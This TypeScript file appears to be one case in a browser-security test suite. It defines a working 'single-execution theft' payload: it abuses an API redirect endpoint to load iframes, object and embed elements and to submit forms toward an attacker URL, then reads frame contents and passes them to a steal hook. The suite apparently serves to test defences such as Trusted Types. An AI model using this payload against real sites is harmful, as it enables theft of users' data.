import { attack } from "../attack.js";

export default attack({
  name: "opens frames and submits forms through a redirect of the API",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const to = (path: string) =>
      `${it.ownApiUrl ?? it.apiUrl}redirect?${new URLSearchParams({ to: `${it.attackerUrl}/${path}` })}`;
    for (const [name, attribute] of [
      ["iframe", "src"],
      ["object", "data"],
      ["embed", "src"],
    ] as const) {
      for (const url of [to(name), `${it.ownApiUrl ?? it.apiUrl}me`]) {
        const element = document.createElement(name);
        try {
          element.setAttribute(attribute, url);
        } catch {
          // Trusted Types refuse <object> and <embed>.
        }
        document.body.append(element);
      }
    }
    for (const method of ["get", "post"]) {
      const target = Object.assign(document.createElement("iframe"), { name: `target-${method}` });
      const form = Object.assign(document.createElement("form"), {
        method,
        action: to(`form-${method}`),
        target: target.name,
      });
      form.innerText = "";
      document.body.append(target, form);
      form.append(
        Object.assign(document.createElement("input"), { name: "to", value: `${it.attackerUrl}/form` }),
      );
      form.submit();
    }
    await it.pause(1_000);
    for (const frame of document.querySelectorAll("iframe")) {
      try {
        it.steal(frame.contentDocument?.documentElement.outerHTML, frame.contentWindow?.location.href);
      } catch {
        // Cross-origin.
      }
    }
  },
});
